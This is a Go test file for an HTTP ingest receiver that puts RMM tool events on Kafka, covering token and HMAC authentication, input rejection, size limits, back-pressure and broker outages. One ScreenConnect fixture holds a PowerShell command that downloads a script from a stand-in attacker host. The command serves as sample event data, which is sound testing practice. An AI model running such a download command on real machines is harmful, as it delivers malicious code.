package receive_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"github.com/segmentio/kafka-go"

	"github.com/tripline/tripline/adapt"
	"github.com/tripline/tripline/broker"
	"github.com/tripline/tripline/ingest"
	"github.com/tripline/tripline/kafkaio"
	"github.com/tripline/tripline/receive"
)

const partitions = 2

// env is a receiver over real HTTP writing to the in-process broker over
// TCP.
type env struct {
	t      testing.TB
	b      *broker.Broker
	w      *kafka.Writer
	srv    *httptest.Server
	tokens map[string]string // msp → secret
}

func newEnv(t testing.TB, cfg receive.Config) *env {
	t.Helper()
	b := broker.ForTest(t, broker.Options{Partitions: partitions, Topics: []string{receive.DefaultTopic}})
	return newEnvOn(t, b, b.Config(), cfg)
}

func newEnvOn(t testing.TB, b *broker.Broker, kc kafkaio.Config, cfg receive.Config) *env {
	t.Helper()
	e := &env{t: t, b: b, tokens: map[string]string{}}
	var lines []string
	for _, msp := range []string{"msp-northwind", "msp-contoso"} {
		secret, line, err := receive.NewToken("sender-"+msp, msp)
		if err != nil {
			t.Fatal(err)
		}
		e.tokens[msp] = secret
		lines = append(lines, line)
	}
	toks, err := receive.ParseTokens([]byte(strings.Join(lines, "\n")), "tokens")
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Producer == nil {
		e.w = kc.NewWriterLimit(kafkaio.WriterBatchBytes(kafkaio.TopicMaxMessageBytes))
		t.Cleanup(func() { e.w.Close() })
		cfg.Producer = e.w
	}
	if cfg.MaxMessageBytes == 0 {
		cfg.MaxMessageBytes = kafkaio.WriterBatchBytes(kafkaio.TopicMaxMessageBytes)
	}
	cfg.Tokens, cfg.Log = toks, zerolog.Nop()
	s, err := receive.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	e.srv = httptest.NewServer(s.Handler())
	t.Cleanup(e.srv.Close)
	return e
}

type reply struct {
	status int
	body   map[string]any
}

func (e *env) post(format, token string, body []byte) reply {
	e.t.Helper()
	req, err := http.NewRequest(http.MethodPost, e.srv.URL+"/v1/ingest/"+format, bytes.NewReader(body))
	if err != nil {
		e.t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	r := reply{status: resp.StatusCode}
	if err := json.Unmarshal(raw, &r.body); err != nil {
		e.t.Errorf("%s: response %d is not JSON: %q", format, resp.StatusCode, raw)
	}
	return r
}

func readTopic(t testing.TB, kc kafkaio.Config, topic string) []kafka.Message {
	t.Helper()
	var out []kafka.Message
	for p := range partitions {
		r := kafka.NewReader(kafka.ReaderConfig{Brokers: kc.Brokers, Topic: topic, Partition: p, MaxWait: 50 * time.Millisecond})
		for {
			ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
			m, err := r.ReadMessage(ctx)
			cancel()
			if err != nil {
				break
			}
			out = append(out, m)
		}
		r.Close()
	}
	return out
}

func header(m kafka.Message, key string) string {
	for _, h := range m.Headers {
		if h.Key == key {
			return string(h.Value)
		}
	}
	return ""
}

// ninjaLines are the NinjaOne sample's values: records and a page.
func ninjaLines(t testing.TB) [][]byte {
	t.Helper()
	f, err := os.Open("../adapt/testdata/ninjaone.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out [][]byte
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		if l := bytes.TrimSpace(sc.Bytes()); len(l) > 0 {
			out = append(out, bytes.Clone(l))
		}
	}
	return out
}

// Accepted records land on the topic, as posted, with the format, the
// token's msp and the time received in headers, keyed by msp; a body that
// names another MSP cannot change it.
func TestAccepted(t *testing.T) {
	e := newEnv(t, receive.Config{})
	record := []byte(`{"id":1,"activityTime":1763647120,"activityType":"SYSTEM","statusCode":"APP_USER_LOGGED_IN","msp":"msp-contoso","tripline-msp":"msp-contoso"}`)
	r := e.post("ninjaone", e.tokens["msp-northwind"], record)
	if r.status != http.StatusAccepted || r.body["records"] != 1.0 || r.body["msp"] != "msp-northwind" {
		t.Fatalf("single record: %d %v", r.status, r.body)
	}
	page := ninjaLines(t)[2]
	if r := e.post("ninjaone", e.tokens["msp-northwind"], page); r.status != http.StatusAccepted || r.body["records"].(float64) < 2 {
		t.Fatalf("page: %d %v", r.status, r.body)
	}
	contract := []byte(`{"schema_version":1,"msp":"msp-contoso","event_id":"a"}` + "\n\n" + `{"schema_version":1,"msp":"msp-contoso","event_id":"b"}` + "\n")
	if r := e.post("contract-v1", e.tokens["msp-contoso"], contract); r.status != http.StatusAccepted || r.body["messages"] != 2.0 {
		t.Fatalf("contract lines: %d %v", r.status, r.body)
	}
	// A contract event naming another MSP than the token's is refused.
	if r := e.post("contract-v1", e.tokens["msp-northwind"], contract); r.status != http.StatusForbidden {
		t.Fatalf("contract lines of another msp: %d %v", r.status, r.body)
	}
	msgs := readTopic(t, e.b.Config(), receive.DefaultTopic)
	if len(msgs) != 4 {
		t.Fatalf("%d messages on %s, want 4", len(msgs), receive.DefaultTopic)
	}
	seen := map[string]int{}
	for _, m := range msgs {
		format, msp := header(m, ingest.HeaderFormat), header(m, ingest.HeaderMSP)
		if string(m.Key) != msp {
			t.Errorf("key %q, msp header %q", m.Key, msp)
		}
		if _, err := time.Parse(time.RFC3339Nano, header(m, receive.HeaderReceivedAt)); err != nil {
			t.Errorf("received-at: %v", err)
		}
		switch {
		case format == "ninjaone" && msp == "msp-northwind" && (bytes.Equal(m.Value, record) || bytes.Equal(m.Value, page)):
			seen[string(m.Value)]++
		case format == "contract-v1" && msp == "msp-contoso":
			seen["contract"]++
		default:
			t.Errorf("unexpected message: format %q msp %q value %.80s", format, msp, m.Value)
		}
	}
	if seen[string(record)] != 1 || seen[string(page)] != 1 || seen["contract"] != 2 {
		t.Errorf("messages by value: %v", seen)
	}
}

// With TokenInURL a webhook that cannot set headers passes its token in
// the query; without it, that token is not admitted.
func TestTokenInURL(t *testing.T) {
	for _, allow := range []bool{false, true} {
		e := newEnv(t, receive.Config{TokenInURL: allow})
		resp, err := http.Post(e.srv.URL+"/v1/ingest/ninjaone?token="+e.tokens["msp-contoso"], "application/json", strings.NewReader(`{"id":1}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if want := map[bool]int{false: 401, true: 202}[allow]; resp.StatusCode != want {
			t.Errorf("TokenInURL %v: %d, want %d", allow, resp.StatusCode, want)
		}
	}
}

// Bad input gets a 4xx with a JSON reason and writes nothing.
func TestRejects(t *testing.T) {
	e := newEnv(t, receive.Config{MaxBodyBytes: 64 << 10, MaxRecords: 100, MaxMessageBytes: 16 << 10})
	tok := e.tokens["msp-northwind"]
	big := fmt.Sprintf(`[{"id":1,"pad":"%s"}]`, strings.Repeat("x", 20<<10))
	many := "[" + strings.TrimSuffix(strings.Repeat(`{"id":1},`, 101), ",") + "]"
	bigPage := fmt.Sprintf(`{"activities":[{"id":1}],"pad":"%s"}`, strings.Repeat("x", 20<<10))
	for _, tc := range []struct {
		name, format, token, body string
		status                    int
	}{
		{"no token", "ninjaone", "", `{"id":1}`, 401},
		{"bad token", "ninjaone", tok + "x", `{"id":1}`, 401},
		{"unknown format", "kaseya-vsa", tok, `{"id":1}`, 404},
		{"not json", "ninjaone", tok, `id=1`, 400},
		{"truncated json", "ninjaone", tok, `{"id":1`, 400},
		{"trailing data", "ninjaone", tok, `[{"id":1}] x`, 400},
		{"empty", "ninjaone", tok, ` `, 400},
		{"not utf-8", "ninjaone", tok, "{\"id\":\"\xff\"}", 400},
		{"contract not json", "contract-v1", tok, "{\"msp\":\"msp-northwind\"}\nnope", 400},
		{"contract without msp", "contract-v1", tok, `{"event_id":"x"}`, 403},
		{"contract msp by another case", "contract-v1", tok, `{"msp":"msp-contoso","Msp":"msp-northwind"}`, 403},
		{"contract msp not a string", "contract-v1", tok, `{"msp":1}`, 403},
		{"body over the limit", "ninjaone", tok, "[" + strings.Repeat(`{"id":1},`, 10000) + `{"id":1}]`, 413},
		{"record over the message limit", "ninjaone", tok, big, 413},
		{"page over the message limit", "ninjaone", tok, bigPage, 413},
		{"too many records", "ninjaone", tok, many, 413},
	} {
		r := e.post(tc.format, tc.token, []byte(tc.body))
		errBody, _ := r.body["error"].(map[string]any)
		if r.status != tc.status || errBody["message"] == "" || errBody["code"] == "" {
			t.Errorf("%s: %d %v, want %d with a reason", tc.name, r.status, r.body, tc.status)
		}
	}
	if msgs := readTopic(t, e.b.Config(), receive.DefaultTopic); len(msgs) != 0 {
		t.Errorf("%d messages written for refused requests", len(msgs))
	}
}

// An array too large for one message is cut into arrays that fit, in
// order, every record kept.
func TestSplitsLargeArrays(t *testing.T) {
	e := newEnv(t, receive.Config{MaxMessageBytes: 4 << 10})
	var recs []string
	for i := range 200 {
		recs = append(recs, fmt.Sprintf(`{"id":%d,"activityType":"SYSTEM"}`, i))
	}
	r := e.post("ninjaone", e.tokens["msp-northwind"], []byte("["+strings.Join(recs, ",")+"]"))
	if r.status != 202 || r.body["records"] != 200.0 || r.body["messages"].(float64) < 2 {
		t.Fatalf("%d %v", r.status, r.body)
	}
	msgs := readTopic(t, e.b.Config(), receive.DefaultTopic)
	var got []string
	for _, m := range msgs {
		if len(m.Value) > 4<<10 {
			t.Errorf("message of %d bytes", len(m.Value))
		}
		var arr []json.RawMessage
		if err := json.Unmarshal(m.Value, &arr); err != nil {
			t.Fatal(err)
		}
		for _, a := range arr {
			got = append(got, string(a))
		}
	}
	// One key, one partition: the order is the posted order.
	if strings.Join(got, ",") != strings.Join(recs, ",") {
		t.Errorf("records split to %d messages differ from those posted", len(msgs))
	}
}

// blocking is a producer that waits until released.
type blocking struct {
	entered chan struct{}
	release chan struct{}
}

func (b *blocking) WriteMessages(ctx context.Context, _ ...kafka.Message) error {
	b.entered <- struct{}{}
	select {
	case <-b.release:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Requests beyond MaxInFlight get 429 at once.
func TestTooManyInFlight(t *testing.T) {
	p := &blocking{entered: make(chan struct{}, 2), release: make(chan struct{})}
	e := newEnvOn(t, nil, kafkaio.Config{}, receive.Config{Producer: p, MaxInFlight: 1})
	done := make(chan reply, 1)
	go func() { done <- e.post("ninjaone", e.tokens["msp-northwind"], []byte(`{"id":1}`)) }()
	<-p.entered
	if r := e.post("ninjaone", e.tokens["msp-northwind"], []byte(`{"id":2}`)); r.status != http.StatusTooManyRequests {
		t.Errorf("second request in flight: %d %v", r.status, r.body)
	}
	close(p.release)
	if r := <-done; r.status != http.StatusAccepted {
		t.Errorf("first request: %d %v", r.status, r.body)
	}
}

func freePort(t testing.TB) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// With the broker stopped mid-stream requests get 503, never 2xx; every
// record a 202 covered is on the topic once the broker is back.
func TestBrokerDown(t *testing.T) {
	dir, port := t.TempDir(), freePort(t)
	opts := broker.Options{Partitions: partitions, Topics: []string{receive.DefaultTopic}, DataDir: dir, Port: port}
	b, err := broker.Start(opts)
	if err != nil {
		t.Fatal(err)
	}
	kc := b.Config()
	e := newEnvOn(t, b, kc, receive.Config{WriteTimeout: 2 * time.Second})
	var (
		mu       sync.Mutex
		accepted = map[int]bool{}
		codes    = map[int]int{}
	)
	post := func(i int) {
		r := e.post("ninjaone", e.tokens["msp-northwind"], fmt.Appendf(nil, `[{"id":%d,"n":1},{"id":%d,"n":2}]`, i, i))
		mu.Lock()
		defer mu.Unlock()
		codes[r.status]++
		if r.status/100 == 2 {
			accepted[i] = true
		}
	}
	// Senders keep posting while the broker stops.
	stop := make(chan struct{})
	var wg sync.WaitGroup
	var next = make(chan int)
	for range 4 {
		wg.Go(func() {
			for i := range next {
				post(i)
			}
		})
	}
	wg.Go(func() {
		defer close(next)
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			case next <- i:
			}
		}
	})
	time.Sleep(300 * time.Millisecond)
	b.Close()
	time.Sleep(3 * time.Second)
	close(stop)
	wg.Wait()
	if codes[http.StatusServiceUnavailable] == 0 || len(accepted) == 0 {
		t.Fatalf("statuses %v: want some 202 before the stop and 503 after", codes)
	}
	for c := range codes {
		if c != http.StatusAccepted && c != http.StatusServiceUnavailable {
			t.Errorf("status %d during the outage", c)
		}
	}
	// The outage is answered 503 at once too, not only by writes in flight.
	if r := e.post("ninjaone", e.tokens["msp-northwind"], []byte(`{"id":-1}`)); r.status != http.StatusServiceUnavailable {
		t.Errorf("with the broker down: %d %v", r.status, r.body)
	}
	b2, err := broker.Start(opts)
	if err != nil {
		t.Fatal(err)
	}
	defer b2.Close()
	got := map[int]bool{}
	for _, m := range readTopic(t, b2.Config(), receive.DefaultTopic) {
		var arr []struct{ ID int }
		if err := json.Unmarshal(m.Value, &arr); err == nil && len(arr) == 2 {
			got[arr[0].ID] = true
		}
	}
	for i := range accepted {
		if !got[i] {
			t.Errorf("request %d got 202 but its records are not on the topic", i)
		}
	}
	t.Logf("statuses %v; %d accepted requests all on the topic after the restart (%d stored in all)", codes, len(accepted), len(got))
}

// HMAC-signed bodies: the MSP whose secret signed is the msp; a wrong
// signature, a changed body, an unknown MSP or a timestamp outside five
// minutes is 401.
func TestHMAC(t *testing.T) {
	secret := strings.Repeat("s3cr3t-", 6)
	secrets, err := receive.ParseSecrets([]byte("# per MSP\nmsp-contoso:"+secret+"\n"), "secrets")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := receive.ParseSecrets([]byte("msp-a:tiny-value\n"), "secrets"); err == nil || strings.Contains(err.Error(), "tiny-value") {
		t.Errorf("short secret: %v (the error must not show it)", err)
	}
	e := newEnv(t, receive.Config{Secrets: secrets})
	body := []byte(`[{"id":7,"activityType":"SYSTEM"}]`)
	post := func(msp string, ts time.Time, sig string, body []byte) int {
		req, _ := http.NewRequest(http.MethodPost, e.srv.URL+"/v1/ingest/ninjaone", bytes.NewReader(body))
		req.Header.Set(receive.HeaderSignedMSP, msp)
		req.Header.Set(receive.HeaderTimestamp, fmt.Sprint(ts.Unix()))
		req.Header.Set(receive.HeaderSignature, sig)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	now := time.Now()
	good := receive.Sign([]byte(secret), now, body)
	for _, tc := range []struct {
		name string
		code int
		got  int
	}{
		{"signed", 202, post("msp-contoso", now, good, body)},
		{"another msp claimed", 401, post("msp-northwind", now, good, body)},
		{"changed body", 401, post("msp-contoso", now, good, append(bytes.Clone(body), ' '))},
		{"wrong secret", 401, post("msp-contoso", now, receive.Sign([]byte(secret+"x"), now, body), body)},
		{"old timestamp", 401, post("msp-contoso", now.Add(-6*time.Minute), receive.Sign([]byte(secret), now.Add(-6*time.Minute), body), body)},
		{"future timestamp", 401, post("msp-contoso", now.Add(6*time.Minute), receive.Sign([]byte(secret), now.Add(6*time.Minute), body), body)},
		{"timestamp not the signed one", 401, post("msp-contoso", now.Add(time.Second), good, body)},
	} {
		if tc.got != tc.code {
			t.Errorf("%s: %d, want %d", tc.name, tc.got, tc.code)
		}
	}
	msgs := readTopic(t, e.b.Config(), receive.DefaultTopic)
	if len(msgs) != 1 || header(msgs[0], ingest.HeaderMSP) != "msp-contoso" || string(msgs[0].Key) != "msp-contoso" || !bytes.Equal(msgs[0].Value, body) {
		t.Errorf("%d messages; want the signed body once under msp-contoso", len(msgs))
	}
	// Without secrets configured, a signature admits nothing.
	e2 := newEnv(t, receive.Config{})
	e.srv = e2.srv
	if got := post("msp-contoso", now, good, body); got != 401 {
		t.Errorf("signature without --hmac-secrets: %d", got)
	}
}

// TestScreenConnectUnescaped: a ScreenConnect trigger body whose command
// was substituted without JSON escaping is accepted, and written repaired:
// valid JSON that the adapter converts to the command as typed.
func TestScreenConnectUnescaped(t *testing.T) {
	e := newEnv(t, receive.Config{})
	command := `Invoke-WebRequest "http://evil.example/a.ps1" -OutFile C:\Temp\a.ps1`
	body := strings.NewReplacer("{Event.EventID}", "a1b2", "{Event.EventType}", "RanCommand",
		"{Event.Time:o}", "2025-11-20T14:00:12.1234567Z", "{Event.Host}", "asmith", "{Event.Data}", command,
		"{Connection.ProcessType}", "Host", "{Session.CustomProperty1}", "County", "{Connection.NetworkAddress}", "203.0.113.7",
	).Replace(adapt.ScreenConnectTrigger)
	if json.Valid([]byte(body)) {
		t.Fatal("the test body is valid JSON")
	}
	if r := e.post("screenconnect", e.tokens["msp-northwind"], []byte(body)); r.status != http.StatusAccepted || r.body["records"] != 1.0 {
		t.Fatalf("unescaped trigger body: %d %v", r.status, r.body)
	}
	// Not the template's shape: still malformed.
	if r := e.post("screenconnect", e.tokens["msp-northwind"], []byte(`{"EventType":"RanCommand","Data":"a"b"}`)); r.status != http.StatusBadRequest {
		t.Fatalf("malformed body: %d %v", r.status, r.body)
	}
	msgs := readTopic(t, e.b.Config(), receive.DefaultTopic)
	if len(msgs) != 1 || !json.Valid(msgs[0].Value) {
		t.Fatalf("%d messages; first valid JSON: %v", len(msgs), len(msgs) > 0 && json.Valid(msgs[0].Value))
	}
	a, _ := adapt.Get("screenconnect")
	var got string
	if err := a.Convert(msgs[0].Value, "msp-northwind", func(o adapt.Out) error {
		if o.Event == nil {
			return fmt.Errorf("%v %s", o.Err, o.Skip)
		}
		got = strings.Clone(o.Event.Script.Command)
		return nil
	}); err != nil || got != command {
		t.Fatalf("converted to %q (%v), want %q", got, err, command)
	}
}
